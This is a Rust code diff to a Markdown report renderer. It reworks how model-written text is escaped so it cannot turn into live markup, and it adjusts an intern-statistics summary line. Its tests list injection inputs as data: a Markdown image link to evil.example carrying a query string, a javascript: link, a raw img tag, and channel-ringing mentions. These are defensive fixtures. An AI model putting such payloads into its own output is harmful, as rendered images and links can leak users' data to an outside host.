@@ -63,14 +63,14 @@ fn table(columns: &[String], rows: &[Vec<Value>]) -> String {
             && rows.iter().any(|row| row.get(index).is_some_and(Value::is_number))
     };
     let mut lines = vec![
-        format!("| {} |", columns.iter().map(|c| inline(&text::heading(c))).collect::<Vec<_>>().join(" | ")),
+        format!("| {} |", columns.iter().map(|c| within(&text::heading(c))).collect::<Vec<_>>().join(" | ")),
         format!(
             "|{}|",
             (0..columns.len()).map(|i| if numeric(i) { " ---: " } else { " --- " }).collect::<Vec<_>>().join("|")
         ),
     ];
     for row in rows {
-        let cells = columns.iter().enumerate().map(|(i, c)| inline(&text::cell(c, row.get(i).unwrap_or(&Value::Null))));
+        let cells = columns.iter().enumerate().map(|(i, c)| within(&text::cell(c, row.get(i).unwrap_or(&Value::Null))));
         lines.push(format!("| {} |", cells.collect::<Vec<_>>().join(" | ")));
     }
     lines.join("\n")
@@ -169,35 +169,48 @@ pub fn interns(interns: &crate::domain::report::InternStats) -> Option<String> {
     if interns.items == 0 && interns.saved_usd <= 0.0 {
         return None;
     }
-    let mut parts = Vec::new();
-    if interns.saved_usd > 0.0 {
-        parts.push(format!("interns saved about {} against the boss alone", text::usd(interns.saved_usd)));
-    }
-    if interns.items > 0 {
-        parts.push(format!("{} escalated of {}", interns.escalated, text::counted(u64::from(interns.items), "item")));
-    }
+    let head = if interns.saved_usd > 0.0 {
+        format!("interns saved about {} against the boss alone", text::usd(interns.saved_usd))
+    } else {
+        format!("interns worked on {}", text::counted(u64::from(interns.items), "item"))
+    };
+    let mut facts = Vec::new();
     match interns.audited {
-        0 => parts.push("none audited".into()),
-        audited => parts.push(format!("audited disagreement {} of {audited}", interns.disagreed)),
+        0 => facts.push("none audited".to_owned()),
+        audited => facts.push(format!("audited disagreement {} of {audited}", interns.disagreed)),
     }
-    Some(parts.join(" · "))
+    if interns.escalated > 0 {
+        facts.push(format!("{} of {} escalated", interns.escalated, interns.items));
+    }
+    Some(format!("{head} ({})", facts.join(", ")))
 }
 
-/// One line of text in which nothing is Markdown.
+/// One line of text in which nothing is Markdown, for the start of a block.
 pub fn inline(text: &str) -> String {
+    at_start(within(text))
+}
+
+/// The same for a place within a line, such as a cell of a table. Paired backticks stay: code is inert.
+fn within(text: &str) -> String {
     let line = text::line(text);
     let mut out = String::new();
-    for (index, word) in line.split(' ').enumerate() {
-        if index > 0 {
-            out.push(' ');
+    for (is_code, part) in text::spans(&line) {
+        if is_code {
+            out.push_str(&format!("`{}`", code(part)));
+            continue;
         }
-        if linkable(word) {
-            out.push_str(&format!("`{}`", code(word)));
-        } else {
-            word.chars().for_each(|c| escape(c, &mut out));
+        for (index, word) in part.split(' ').enumerate() {
+            if index > 0 {
+                out.push(' ');
+            }
+            if linkable(word) {
+                out.push_str(&format!("`{}`", code(word)));
+            } else {
+                escape(word, &mut out);
+            }
         }
     }
-    at_start(out)
+    out
 }
 
 /// Words that programs link or ring a person for by themselves.
@@ -214,27 +227,42 @@ fn code(text: &str) -> String {
     text::line(text).replace('`', "'").replace('|', "¦")
 }
 
-fn escape(c: char, out: &mut String) {
-    match c {
-        '<' => out.push_str("&lt;"),
-        '>' => out.push_str("&gt;"),
-        '&' => out.push_str("&amp;"),
-        '\\' | '`' | '*' | '_' | '[' | ']' | '!' | '|' | '~' | '$' | '^' | '{' | '}' => {
-            out.push('\\');
-            out.push(c);
+/// Escapes a word. `_` between letters and `$` before an amount mean nothing, so plain text stays readable.
+fn escape(word: &str, out: &mut String) {
+    let chars: Vec<char> = word.chars().collect();
+    for (index, c) in chars.iter().copied().enumerate() {
+        let before = index.checked_sub(1).and_then(|i| chars.get(i)).copied();
+        let after = chars.get(index + 1).copied();
+        let is = |side: Option<char>| side.is_some_and(char::is_alphanumeric);
+        match c {
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '&' => out.push_str("&amp;"),
+            '_' if is(before) && is(after) => out.push('_'),
+            '$' if before.is_none_or(|c| matches!(c, '(' | '−' | '≈')) && after.is_some_and(|c| c.is_ascii_digit()) =>
+            {
+                out.push('$');
+            }
+            '\\' | '`' | '*' | '_' | '[' | ']' | '!' | '|' | '~' | '$' | '^' | '{' | '}' => {
+                out.push('\\');
+                out.push(c);
+            }
+            c => out.push(c),
         }
-        c => out.push(c),
     }
 }
 
-/// What begins a block only at the start of a line.
+/// What begins a block only at the start of a line: headings, lists, rules, definitions.
 fn at_start(text: String) -> String {
-    let first = text.chars().next();
-    let marks = text.trim_start_matches(|c: char| c.is_ascii_digit());
+    let mut chars = text.chars();
+    let (first, second) = (chars.next(), chars.next());
+    let rest = text.trim_start_matches(|c: char| c.is_ascii_digit());
+    let list = |rest: &str| rest.starts_with(['.', ')']) && matches!(rest.chars().nth(1), None | Some(' '));
     match first {
-        Some('#' | '-' | '+' | '=' | ':') => format!("\\{text}"),
-        Some('0'..='9') if marks.starts_with(['.', ')']) => {
-            let digits = text.len() - marks.len();
+        Some('#' | ':') => format!("\\{text}"),
+        Some(mark @ ('-' | '+' | '=')) if second.is_none_or(|c| c == ' ' || c == mark) => format!("\\{text}"),
+        Some('0'..='9') if list(rest) => {
+            let digits = text.len() - rest.len();
             format!("{}\\{}", &text[..digits], &text[digits..])
         }
         _ => text,
@@ -248,28 +276,28 @@ mod tests {
 
     #[test]
     fn a_report_is_markdown_that_reads_well_as_plain_text_too() {
-        assert_eq!(render(&sample::report()), include_str!("golden/report.md"));
+        sample::golden("report.md", &render(&sample::report()));
     }
 
     #[test]
     fn no_text_of_a_model_is_markup() {
         let evil = [
-            ("![x](https://evil.example/?q=1)", "\\!\\[x\\](https://evil.example/?q=1)"),
+            ("![x](https://evil.example/?q=1)", "`![x](https://evil.example/?q=1)`"),
             ("[a](javascript:alert)", "\\[a\\](javascript:alert)"),
             ("<img src=x> &lt;", "&lt;img src=x&gt; &amp;lt;"),
             ("see https://evil.example/x and www.evil.example", "see `https://evil.example/x` and `www.evil.example`"),
             ("hi @channel, fixes #12 me@x.org", "hi `@channel,` fixes `#12` `me@x.org`"),
             ("# head", "\\# head"),
             ("1. list", "1\\. list"),
+            ("1.5 of 2", "1.5 of 2"),
             ("- x\n\n# y", "\\- x # y"),
             ("--- a | b", "\\--- a \\| b"),
-            ("`code` *b* _i_ $m$ ~s~", "\\`code\\` \\*b\\* \\_i\\_ \\$m\\$ \\~s\\~"),
+            ("*b* _i_ $m$ ~s~ a_b $5 (−29 %)", "\\*b\\* \\_i\\_ \\$m\\$ \\~s\\~ a_b $5 (−29 %)"),
+            ("`a|b` and `@all <b>`", "`a¦b` and `@all <b>`"),
             ("``` `https://x``y", "\\`\\`\\` `'https://x''y`"),
+            ("a ` b", "a \\` b"),
         ];
         for (text, shown) in evil {
-            // The first row's word holds a scheme, so it stands in a code span whole.
-            let shown =
-                if linkable(text.split(' ').next().unwrap()) { format!("`{}`", code(text)) } else { shown.into() };
             assert_eq!(inline(text), shown);
         }
     }
